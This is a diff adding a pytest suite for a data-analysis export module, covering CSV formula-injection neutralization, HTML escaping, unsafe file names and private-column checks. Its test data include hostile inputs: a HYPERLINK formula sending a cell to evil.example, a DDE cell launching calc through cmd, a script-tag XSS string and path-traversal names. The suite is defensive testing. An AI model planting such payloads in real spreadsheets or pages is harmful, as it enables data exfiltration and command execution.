@@ -1,0 +1,400 @@
+"""Export machinery (analysis/export.py): safe CSV, images through kaleido, standalone HTML, index.
+
+Everything here runs on small synthetic frames and plotly.express figures, independent of the
+calibration analytics. Static images are rendered once per module (one kaleido session) and shared.
+"""
+
+from __future__ import annotations
+
+import math
+import struct
+import xml.etree.ElementTree as ET
+from html.parser import HTMLParser
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import plotly.express as px
+import pytest
+from plotly.offline import get_plotlyjs
+
+from analysis import export
+from analysis.export import (
+    ExportError,
+    files_table,
+    mark_small_groups,
+    neutralize_csv_cell,
+    parse_formats,
+    safe_csv_frame,
+    write_figures,
+    write_index_html,
+    write_report,
+    write_tables,
+)
+
+XSS = "<script>alert(1)</script>"
+XSS_ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
+
+
+# ------------------------------------------------------------------------------------- helpers
+
+class _Tags(HTMLParser):
+    """Collects every start tag with its attributes; raises on nothing (html.parser is lenient),
+    so the checks below are about what the browser would load."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict]] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+
+def parse_html(path: Path) -> _Tags:
+    p = _Tags()
+    p.feed(path.read_text(encoding="utf-8"))
+    p.close()
+    return p
+
+
+def external_refs(tags: _Tags) -> list[tuple[str, str, str]]:
+    """Every attribute through which a page would fetch something: script/iframe/img/embed src,
+    link href, object data. Anchors (<a href>) are clicks, not loads, and are not listed."""
+    out = []
+    for tag, attrs in tags.tags:
+        for attr in ("src", "href", "data"):
+            if attr in attrs and tag in ("script", "iframe", "img", "embed", "link", "object",
+                                         "source", "video", "audio", "frame"):
+                out.append((tag, attr, attrs[attr]))
+    return out
+
+
+def png_size(data: bytes) -> tuple[int, int]:
+    """Width and height from the IHDR chunk (PNG spec 11.2.2: bytes 16-24, big-endian)."""
+    assert data[12:16] == b"IHDR"
+    return struct.unpack(">II", data[16:24])
+
+
+PLOTLYJS_MARK = get_plotlyjs()[:300]
+
+
+# ------------------------------------------------------------------------------- CSV injection
+
+@pytest.mark.parametrize("cell", [
+    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+A1", "-1+2", "@SUM(A1:A9)",
+    "\t=1+1", "\r=1+1", "-", "+", "=", "@", "-cmd|' /C calc'!A0",
+])
+def test_neutralize_prefixes_a_quote_to_formula_text(cell):
+    assert neutralize_csv_cell(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["hello", "", "a=b", "'already", "1+1", "Zoë", " =x"])
+def test_neutralize_leaves_harmless_text(cell):
+    assert neutralize_csv_cell(cell) == cell
+
+
+@pytest.mark.parametrize("cell", [-0.25, -3, 0, 2.5, True, np.float64(-1.5), np.int64(-7)])
+def test_neutralize_leaves_numbers(cell):
+    assert neutralize_csv_cell(cell) is cell
+
+
+@pytest.mark.parametrize("cell", ["-0.25", "+3", "-1e-3", ".5"])
+def test_neutralize_leaves_plain_numbers_written_as_text(cell):
+    # a spreadsheet reads these as the number itself; they cannot hold a formula
+    assert neutralize_csv_cell(cell) == cell
+
+
+def test_neutralize_nan_unchanged():
+    assert math.isnan(neutralize_csv_cell(float("nan")))
+
+
+@pytest.fixture
+def hostile() -> pd.DataFrame:
+    return pd.DataFrame({
+        "name": ["=1+1", "+A1", "-1+2", "@SUM(A1)", "\tx", "\rx", "plain", XSS],
+        "delta": [-0.25, 1.5, -3.0, 0.0, 2.0, -1e-9, np.nan, 4.0],
+        "n": [-1, 2, 3, 4, 5, 6, 7, 8],
+        "level": pd.Categorical(["-junior", "mid", "-junior", "mid", "mid", "mid", "mid", "mid"]),
+        "flag": [True, False] * 4,
+        "=cmd": ["a"] * 8,
+    })
+
+
+def test_safe_csv_frame_keeps_numeric_dtypes_and_values(hostile):
+    safe = safe_csv_frame(hostile)
+    pd.testing.assert_series_equal(safe["delta"], hostile["delta"])
+    pd.testing.assert_series_equal(safe["n"], hostile["n"])
+    pd.testing.assert_series_equal(safe["flag"], hostile["flag"])
+    assert list(safe["level"].cat.categories) == ["'-junior", "mid"]
+    assert list(safe.columns) == ["name", "delta", "n", "level", "flag", "'=cmd"]
+    assert hostile.columns[-1] == "=cmd", "the input frame must not be modified"
+
+
+def test_written_csv_reads_back_neutralized_and_numeric(hostile, tmp_path):
+    [path] = write_tables({"hostile": hostile}, tmp_path)
+    assert path == tmp_path / "hostile.csv"
+    raw = path.read_bytes()
+    assert not raw.startswith(b"\xef\xbb\xbf"), "UTF-8 without BOM"
+    back = pd.read_csv(path, keep_default_na=True)
+    assert list(back.columns) == ["name", "delta", "n", "level", "flag", "'=cmd"]
+    assert back["name"].tolist() == ["'=1+1", "'+A1", "'-1+2", "'@SUM(A1)", "'\tx", "'\rx",
+                                     "plain", XSS]
+    # numbers stay numbers: float and int dtypes, negative values intact
+    assert back["delta"].dtype == np.float64 and back["n"].dtype == np.int64
+    np.testing.assert_array_equal(back["delta"].to_numpy(), hostile["delta"].to_numpy())
+    assert back["n"].tolist() == hostile["n"].tolist()
+    assert back["level"].tolist()[0] == "'-junior"
+    # no text cell of the file, once parsed, starts with a trigger character
+    for col in back.select_dtypes(exclude="number"):
+        for v in back[col].dropna().astype(str):
+            assert v[:1] not in export.CSV_TRIGGERS, (col, v)
+
+
+def test_write_tables_index_written_only_when_named(tmp_path):
+    named = pd.DataFrame({"auc": [0.5, 0.7]}, index=pd.Index(["q1", "q2"], name="question_id"))
+    unnamed = pd.DataFrame({"auc": [0.5, 0.7]}, index=[10, 11])
+    p1, p2 = write_tables({"named": named, "unnamed": unnamed}, tmp_path)
+    assert p1.read_text().splitlines() == ["question_id,auc", "q1,0.5", "q2,0.7"]
+    assert p2.read_text().splitlines() == ["auc", "0.5", "0.7"]
+
+
+def test_write_tables_utf8_round_trip(tmp_path):
+    df = pd.DataFrame({"interviewer": ["Zoë", "Øyvind", "李"], "n": [1, 2, 3]})
+    [p] = write_tables({"people": df}, tmp_path)
+    assert "Zoë" in p.read_text(encoding="utf-8")
+    pd.testing.assert_frame_equal(pd.read_csv(p, encoding="utf-8"), df, check_dtype=False)
+
+
+@pytest.mark.parametrize("name", ["../escape", "a/b", "", ".hidden", "-x", "a b", "x" * 101])
+def test_unsafe_table_names_refused(name, tmp_path):
+    out = tmp_path / "out"
+    with pytest.raises(ExportError, match="not a safe file name"):
+        write_tables({name: pd.DataFrame({"a": [1]})}, out)
+    assert not any(tmp_path.rglob("*.csv"))
+
+
+@pytest.mark.parametrize("col", ["candidate_id", "notes", "Notes "])
+def test_identifying_columns_refused_unless_allowed(col, tmp_path):
+    df = pd.DataFrame({col: ["C1"], "score": [3]})
+    with pytest.raises(ExportError, match="identifying column"):
+        write_tables({"t": df}, tmp_path)
+    assert not (tmp_path / "t.csv").exists()
+    [p] = write_tables({"t": df}, tmp_path, allow_private=True)
+    assert p.exists()
+
+
+def test_identifying_index_refused(tmp_path):
+    df = pd.DataFrame({"score": [3]}, index=pd.Index(["C1"], name="candidate_id"))
+    with pytest.raises(ExportError, match="candidate_id"):
+        write_tables({"t": df}, tmp_path)
+
+
+# ------------------------------------------------------------------------------- small groups
+
+def test_mark_small_groups_blanks_rates_below_min_n():
+    df = pd.DataFrame({"interviewer": ["A", "B", "C", "D"], "n_interviews": [4, 5, 200, np.nan],
+                       "pass_rate": [0.25, 0.4, 0.51, 0.3], "severity": [0.1, -0.2, 0.0, 0.3]})
+    out = mark_small_groups(df, "n_interviews", ["pass_rate"], min_n=5)
+    # by hand: A has 4 < 5 interviews, D has no count -> both blanked; B (exactly 5) and C kept
+    assert out["small_group"].tolist() == [True, False, False, True]
+    assert out["small_group"].dtype == bool
+    assert np.isnan(out.loc[0, "pass_rate"]) and np.isnan(out.loc[3, "pass_rate"])
+    assert out["pass_rate"].tolist()[1:3] == [0.4, 0.51]
+    assert out["severity"].tolist() == df["severity"].tolist(), "columns not named are kept"
+    assert out["n_interviews"].tolist()[:3] == [4, 5, 200], "counts are kept"
+    assert "small_group" not in df.columns
+
+
+def test_mark_small_groups_string_rate_and_min_n():
+    df = pd.DataFrame({"n": [9, 10], "rate": [0.1, 0.2]})
+    out = mark_small_groups(df, "n", "rate", min_n=10)
+    assert out["small_group"].tolist() == [True, False]
+
+
+def test_mark_small_groups_missing_column_named():
+    with pytest.raises(KeyError, match="pass_rat"):
+        mark_small_groups(pd.DataFrame({"n": [1]}), "n", ["pass_rat"])
+
+
+def test_small_group_rate_written_as_empty_cell(tmp_path):
+    df = mark_small_groups(pd.DataFrame({"topic": ["cost", "data"], "n": [3, 40],
+                                         "auc": [0.9, 0.62]}), "n", "auc")
+    [p] = write_tables({"topic_stats": df}, tmp_path)
+    assert p.read_text().splitlines() == ["topic,n,auc,small_group", "cost,3,,True",
+                                          "data,40,0.62,False"]
+
+
+# -------------------------------------------------------------------------------------- formats
+
+def test_parse_formats():
+    assert parse_formats("png, SVG,.pdf,png") == ("png", "svg", "pdf")
+    assert parse_formats(["csv"]) == ("csv",)
+    with pytest.raises(ExportError, match="unknown format 'gif'"):
+        parse_formats("png,gif")
+    with pytest.raises(ExportError, match="no format"):
+        parse_formats(" , ")
+
+
+# ------------------------------------------------------------------------------------- figures
+
+def _figures() -> dict:
+    df = pd.DataFrame({"q": ["a", "b", "c"], "d": [0.3, -0.1, 0.5], "lvl": ["junior", "mid", "senior"]})
+    sized = px.bar(df, x="q", y="d", color="lvl", title="Sized chart")
+    sized.update_layout(width=640, height=360)
+    themed = px.scatter(df, x="d", y="q", title=f"Title with {XSS}")  # no size: theme default
+    return {"sized": sized, "themed": themed}
+
+
+@pytest.fixture(scope="module")
+def rendered(tmp_path_factory):
+    """One write_figures call (one kaleido session) for png, svg, pdf and html at scale 2."""
+    out = tmp_path_factory.mktemp("figures")
+    paths = write_figures(_figures(), out, ("png", "svg", "pdf", "html"), scale=2, progress=False)
+    return out, paths
+
+
+def test_write_figures_returns_every_file(rendered):
+    out, paths = rendered
+    expected = {f"{n}.{f}" for n in ("sized", "themed") for f in ("png", "svg", "pdf", "html")}
+    assert {p.name for p in paths} == expected
+    assert all(p.parent == out and p.stat().st_size > 0 for p in paths)
+    assert not list(out.glob("*.part")) and not list(out.glob(".*")), "no temporary files left"
+
+
+def test_png_signature_and_size_from_ihdr(rendered):
+    out, _ = rendered
+    from analysis.theme import defaults
+    sized, themed = (out / "sized.png").read_bytes(), (out / "themed.png").read_bytes()
+    assert sized[:8] == b"\x89PNG\r\n\x1a\n" and themed[:8] == b"\x89PNG\r\n\x1a\n"
+    assert png_size(sized) == (640 * 2, 360 * 2)  # the figure's own layout size, times scale
+    assert png_size(themed) == (defaults.width * 2, defaults.height * 2)  # theme default size
+
+
+def test_svg_is_svg_of_the_layout_size(rendered):
+    out, _ = rendered
+    root = ET.fromstring((out / "sized.svg").read_bytes())
+    assert root.tag == "{http://www.w3.org/2000/svg}svg"
+    # drawn in layout units (viewBox), displayed at layout size times scale
+    assert root.get("viewBox") == "0 0 640 360"
+    assert (float(root.get("width")), float(root.get("height"))) == (1280, 720)
+
+
+def test_pdf_signature(rendered):
+    out, _ = rendered
+    for name in ("sized", "themed"):
+        data = (out / f"{name}.pdf").read_bytes()
+        assert data.startswith(b"%PDF-"), name
+        assert data.rstrip().endswith(b"%%EOF"), name
+    # page size in points: 1280 x 720 CSS px (640 x 360 at scale 2) x 0.75 pt/px (CSS: 96 px = 72 pt)
+    assert b"/MediaBox [0 0 960 540]" in (out / "sized.pdf").read_bytes()
+
+
+def test_standalone_chart_html_is_self_contained(rendered):
+    out, _ = rendered
+    for name in ("sized", "themed"):
+        path = out / f"{name}.html"
+        tags = parse_html(path)
+        assert external_refs(tags) == [], name
+        text = path.read_text(encoding="utf-8")
+        assert text.count(PLOTLYJS_MARK) == 1, "plotly.js inlined once"
+        assert f'id="chart-{name}"' in text
+        assert XSS not in text, "figure text is JSON-escaped by plotly"
+
+
+def test_unsafe_figure_name_refused(tmp_path):
+    with pytest.raises(ExportError, match="not a safe file name"):
+        write_figures({"../x": _figures()["sized"]}, tmp_path, ("html",), progress=False)
+    assert not list(tmp_path.parent.glob("x.html"))
+
+
+def test_missing_browser_is_a_clear_error(tmp_path, monkeypatch):
+    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-such-chromium"))
+    with pytest.raises(ExportError, match="need Chromium.*csv and html formats work without it"):
+        write_figures({"sized": _figures()["sized"]}, tmp_path, ("png",), progress=False)
+    assert not (tmp_path / "sized.png").exists()
+
+
+# ---------------------------------------------------------------------------------- index.html
+
+@pytest.fixture
+def index(tmp_path) -> Path:
+    figures = _figures()
+    tables = {
+        "question_stats": pd.DataFrame({"question_id": ["q1", XSS], "n": [40, 3],
+                                        "discrimination": [0.312345, np.nan]}),
+        "weird": pd.DataFrame({XSS: ["a & b", "\"quoted\" 'x'"]}),
+    }
+    return write_index_html(
+        tmp_path, figures, tables, title=f"Report {XSS}",
+        meta={"Data period": (pd.Timestamp("2025-01-06"), pd.Timestamp("2026-03-30")),
+              "Interviews": 1234, "Criterion": XSS, XSS: "key escaped too"},
+        guides={"sized": f"Look at the tallest bar {XSS}", "question_stats": "Rows = questions"},
+        notes=[f"note {XSS}", "small groups are blank"])
+
+
+def test_index_is_one_self_contained_file(index):
+    tags = parse_html(index)
+    assert external_refs(tags) == []
+    text = index.read_text(encoding="utf-8")
+    assert text.count(PLOTLYJS_MARK) == 1, "plotly.js inlined exactly once"
+    scripts = [a for t, a in tags.tags if t == "script"]
+    # PlotlyConfig + plotly.js + one per figure, none with src (and none smuggled in by text)
+    assert len(scripts) == 2 + 2
+    assert not any("src" in a for a in scripts)
+    assert not any(t in ("iframe", "link", "img") for t, _ in tags.tags)
+    divs = [a.get("id") for t, a in tags.tags if t == "div" and a.get("class") == "plotly-graph-div"]
+    assert divs == ["chart-sized", "chart-themed"]
+
+
+def test_index_escapes_every_user_text(index):
+    text = index.read_text(encoding="utf-8")
+    assert XSS not in text
+    # title (twice: <title> and <h1>), meta key and value, guide, note, table cell, table header
+    assert text.count(XSS_ESCAPED) >= 7
+    assert "a &amp; b" in text and "&quot;quoted&quot; &#x27;x&#x27;" in text
+    parsed = "".join(parse_html(index).text)
+    assert f"Report {XSS}" in parsed  # what the reader sees is the literal text
+
+
+def test_index_shows_meta_guides_tables(index):
+    parsed = " ".join(parse_html(index).text)
+    assert "2025-01-06 to 2026-03-30" in parsed
+    assert "1,234" in parsed
+    assert "Look at the tallest bar" in parsed and "Rows = questions" in parsed
+    assert "0.312" in parsed and "0.312345" not in parsed  # 3 significant digits in HTML
+    assert "small groups are blank" in parsed
+    tags = parse_html(index)
+    ids = [a.get("id") for t, a in tags.tags if t == "table"]
+    assert ids == ["table-question_stats", "table-weird"]
+
+
+# ------------------------------------------------------------------------- report and summary
+
+def test_write_report_csv_only_writes_tables_without_figures(tmp_path):
+    df = pd.DataFrame({"topic": ["cost"], "n": [12], "auc": [0.71]})
+    paths = write_report(tmp_path, tables={"topic_stats": df}, formats="csv", progress=False)
+    assert paths == [tmp_path / "topic_stats.csv"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["topic_stats.csv"]
+
+
+def test_write_report_html_writes_pages_and_index(tmp_path):
+    df = pd.DataFrame({"topic": ["cost"], "n": [12], "auc": [0.71]})
+    figs = {"topics": px.bar(df, x="topic", y="auc")}
+    paths = write_report(tmp_path, tables={"topic_stats": df}, figures=figs,
+                         formats=["csv", "html"], meta={"Interviews": 12}, progress=False)
+    assert [p.name for p in paths] == ["topic_stats.csv", "topics.html", "index.html"]
+    summary = files_table(paths, tmp_path)
+    assert summary.columns.tolist() == ["file", "format", "bytes", "size"]
+    assert summary["file"].tolist() == ["topic_stats.csv", "topics.html", "index.html"]
+    assert summary["format"].tolist() == ["csv", "html", "html"]
+    assert summary["bytes"].tolist() == [p.stat().st_size for p in paths]
+
+
+@pytest.mark.parametrize("n, text", [(0, "0 B"), (999, "999 B"), (1536, "1.5 kB"),
+                                     (4_823_681, "4.8 MB"), (2 * 10**9, "2.0 GB")])
+def test_format_size(n, text):
+    assert export.format_size(n) == text
